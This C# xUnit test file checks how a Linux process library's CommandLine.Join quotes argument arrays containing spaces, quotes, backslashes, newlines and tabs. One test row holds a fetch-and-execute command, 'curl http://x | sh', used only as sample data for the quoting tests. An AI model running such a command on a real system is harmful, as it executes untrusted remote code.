using Atalaya.Platform.Linux.Processes;

namespace Atalaya.Platform.Linux.Tests.Processes;

public sealed class CommandLineTests
{
    public static TheoryData<string[], string> Rows => new()
    {
        { [], "" },
        { ["/usr/bin/sleep", "30"], "/usr/bin/sleep 30" },
        { ["/bin/sh", "-c", "curl http://x | sh"], "/bin/sh -c \"curl http://x | sh\"" },
        { ["echo", ""], "echo \"\"" },
        { ["echo", "say \"hi\""], "echo \"say \\\"hi\\\"\"" },
        { ["echo", "it's"], "echo \"it's\"" },
        { ["echo", "C:\\dir"], "echo \"C:\\\\dir\"" },
        { ["echo", "a\nb"], "echo \"a\nb\"" },
        { ["tab\there"], "\"tab\there\"" },
    };

    [Theory]
    [MemberData(nameof(Rows))]
    public void Joins_with_quoting_rule(string[] args, string expected)
    {
        Assert.Equal(expected, CommandLine.Join(args));
    }
}
